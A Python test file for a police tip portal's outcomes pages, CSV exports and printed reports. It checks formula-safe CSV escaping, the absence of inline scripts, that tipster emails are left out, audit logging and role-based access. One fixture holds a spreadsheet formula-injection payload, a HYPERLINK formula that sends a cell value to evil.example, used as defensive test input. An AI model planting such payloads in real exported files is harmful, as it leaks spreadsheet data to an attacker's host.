"""The outcomes page (charts from a JSON block, no inline script), its CSV and the
printable report; the export of a case's tips (formula-safe CSV, printable, audited);
who may open each, written out by hand."""

from __future__ import annotations

import csv
import io
import re

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from portal.extensions import db
from portal.models import Agency, AuditEvent, Case, Role, User
from portal.services.outcomes import refresh_totals
from portal.services.tips import TipInput, submit_tip
from portal.services.users import create_api_token
from tests.portal.conftest import listed_appeal, sign_in

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def appeal_with_tips(agency: Agency, users: dict[Role, User]):  # type: ignore[no-untyped-def]
    appeal = listed_appeal(
        agency, users[Role.OFFICER], users[Role.SUPERVISOR], number="=1+1", title="@SUM(A1)"
    )
    for body, via in ((EVIL, "facebook"), ("+1 555 0100 called me", "qr"), ("plain", "")):
        submit_tip(
            TipInput(body=body, via=via, email="secret-tipster@example.org"),
            agency=agency,
            appeal=appeal,
        )
    db.session.commit()
    refresh_totals()  # what the periodic job does
    return appeal


def client_for(app: Flask, user: User) -> FlaskClient:
    client = app.test_client()
    assert sign_in(client, user.email).status_code == 302
    return client


def test_outcomes_page_carries_its_data_as_json_and_no_inline_script(
    app: Flask, users: dict[Role, User], appeal_with_tips
) -> None:  # type: ignore[no-untyped-def]
    page = client_for(app, users[Role.SUPERVISOR]).get("/staff/outcomes")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    scripts = re.findall(r"<script([^>]*)>(.*?)</script>", html, re.S)
    inline = [attrs for attrs, body in scripts if body.strip() and "application/json" not in attrs]
    assert inline == []
    assert 'src="/static/vendor/chart.umd.min.js"' in html
    assert "script-src 'self'" in page.headers["Content-Security-Policy"]
    data = re.search(
        r'<script type="application/json" id="outcomes-data">(.*?)</script>', html, re.S
    )
    assert data is not None
    import json

    chart = json.loads(data.group(1))
    assert chart["funnel"]["values"][0] == 1 and chart["funnel"]["values"][2] == 3
    assert sorted(chart["channels"]["values"]) == [1, 1, 1]
    assert "secret-tipster" not in html and "HYPERLINK" not in html


def test_outcomes_csv_is_formula_safe_and_the_report_prints(
    app: Flask, users: dict[Role, User], appeal_with_tips
) -> None:  # type: ignore[no-untyped-def]
    client = client_for(app, users[Role.COORDINATOR])
    response = client.get("/staff/outcomes.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0][:3] == ["appeal", "case", "published (UTC)"]
    assert rows[1][0] == "'@SUM(A1)" and rows[1][1] == "'=1+1"
    assert rows[1][4] == "3"
    report = client.get("/staff/outcomes/report?quarter=all")
    assert report.status_code == 200 and "Tips received" in report.get_data(as_text=True)
    assert client.get("/staff/outcomes/report?quarter=2026-Q9").status_code == 400
    assert client.get("/staff/outcomes?quarter=nonsense").status_code == 400


def test_case_tips_export_is_formula_safe_audited_and_leaves_out_contacts(
    app: Flask, users: dict[Role, User], appeal_with_tips
) -> None:  # type: ignore[no-untyped-def]
    from portal.services.cases import assign_detective

    case = appeal_with_tips.case
    assign_detective(case, users[Role.DETECTIVE], actor=users[Role.OFFICER])
    db.session.commit()
    client = client_for(app, users[Role.DETECTIVE])
    response = client.get(f"/staff/cases/{case.public_id}/tips.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text)))
    bodies = [row[-1] for row in rows[1:]]
    assert bodies == ["'" + EVIL, "'+1 555 0100 called me", "plain"]
    assert "secret-tipster" not in text
    report = client.get(f"/staff/cases/{case.public_id}/tips/report")
    assert report.status_code == 200
    html = report.get_data(as_text=True)
    assert "&lt;" not in EVIL and "HYPERLINK" in html and "secret-tipster" not in html
    events = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "case.tips_export"))
    assert [(e.details["format"], e.details["tips"]) for e in events] == [("csv", 3), ("report", 3)]


def test_outcomes_and_export_routes_authorization_by_hand(
    app: Flask, users: dict[Role, User], case: Case, make_user, other_agency: Agency
) -> None:  # type: ignore[no-untyped-def]
    # who -> (outcomes page, outcomes CSV, per-post CSV, report, case tips CSV, case
    # tips report)
    expected = {
        Role.OFFICER: (403, 403, 403, 403, 403, 403),
        Role.DETECTIVE: (403, 403, 403, 403, 200, 200),  # assigned to the case
        Role.SUPERVISOR: (200, 200, 200, 200, 200, 200),  # oversees every case
        Role.COORDINATOR: (200, 200, 200, 200, 403, 403),
        Role.ADMIN: (200, 200, 200, 200, 403, 403),
        "outsider detective": (403, 403, 403, 403, 404, 404),
        "other agency's supervisor": (200, 200, 200, 200, 404, 404),
    }
    people = {
        **users,
        "outsider detective": make_user(Role.DETECTIVE),
        "other agency's supervisor": make_user(Role.SUPERVISOR, agency_=other_agency),
    }
    paths = (
        "/staff/outcomes",
        "/staff/outcomes.csv",
        "/staff/outcomes/posts.csv",
        "/staff/outcomes/report",
        f"/staff/cases/{case.public_id}/tips.csv",
        f"/staff/cases/{case.public_id}/tips/report",
    )
    for who, want in expected.items():
        client = client_for(app, people[who])  # type: ignore[index]
        got = tuple(client.get(path).status_code for path in paths)
        assert got == want, who


def test_api_outcomes_per_appeal(
    client: FlaskClient, users: dict[Role, User], appeal_with_tips
) -> None:  # type: ignore[no-untyped-def]
    headers = {}
    for role in (Role.SUPERVISOR, Role.DETECTIVE):
        _, secret = create_api_token(users[role])
        headers[role] = {"Authorization": f"Bearer {secret}"}
    db.session.commit()
    response = client.get("/api/v1/outcomes", headers=headers[Role.SUPERVISOR])
    assert response.status_code == 200
    [appeal] = response.json["appeals"]
    assert appeal["appeal"] == appeal_with_tips.public_id
    assert appeal["tips"] == 3 and appeal["tips_by_channel"] == {"facebook": 1, "qr": 1, "web": 1}
    assert "secret-tipster" not in response.get_data(as_text=True)
    assert client.get("/api/v1/outcomes", headers=headers[Role.DETECTIVE]).status_code == 403
    bad = client.get("/api/v1/outcomes?quarter=2026-Q7", headers=headers[Role.SUPERVISOR])
    assert bad.status_code == 422 and bad.json["field"] == "quarter"


def test_a_sent_post_has_its_row_on_the_page_in_the_report_and_in_the_api(
    app: Flask, client: FlaskClient, users: dict[Role, User], agency: Agency, appeal_with_tips
) -> None:  # type: ignore[no-untyped-def]
    from datetime import timedelta

    from portal.publishing.models import Channel, Delivery, Post, PostAppeal

    assert appeal_with_tips.published_at is not None
    sent = appeal_with_tips.published_at - timedelta(minutes=1)  # the tips came after it
    channel = Channel(agency_id=agency.id, network="facebook", name="Page")
    post = Post(agency_id=agency.id, slot_at=sent, created_by_id=users[Role.SUPERVISOR].id)
    post.appeals = [PostAppeal(appeal=appeal_with_tips, position=0)]
    post.deliveries = [Delivery(channel=channel, status="sent", sent_at=sent)]
    db.session.add_all([channel, post])
    db.session.commit()
    staff = client_for(app, users[Role.SUPERVISOR])
    for path in ("/staff/outcomes", "/staff/outcomes/report?quarter=all"):
        html = staff.get(path).get_data(as_text=True)
        section = html[html.index("Per weekly post") :]
        row = section[section.index("<tbody>") : section.index("</tbody>")]
        assert "@SUM(A1)" in row and "Facebook" in row, path
        assert re.search(r'<td class="num">3</td>', row), path  # its three tips
    rows = list(csv.reader(io.StringIO(staff.get("/staff/outcomes/posts.csv").get_data(True))))
    assert rows[0][:3] == ["sent (UTC)", "appeals", "networks"]
    # Formula-safe like the appeal CSV: the title starting with @ is quoted away.
    assert rows[1][1] == "'@SUM(A1)" and rows[1][2] == "Facebook" and rows[1][4] == "3"
    _, secret = create_api_token(users[Role.SUPERVISOR])
    db.session.commit()
    body = client.get("/api/v1/outcomes", headers={"Authorization": f"Bearer {secret}"}).json
    [row] = body["posts"]
    assert row["post"] == post.public_id and row["appeals"] == ["@SUM(A1)"]
    assert row["networks"] == ["facebook"]
    assert row["tips"] == 3 and row["tips_by_channel"] == {"facebook": 1, "qr": 1, "web": 1}
    assert "secret-tipster" not in str(body)
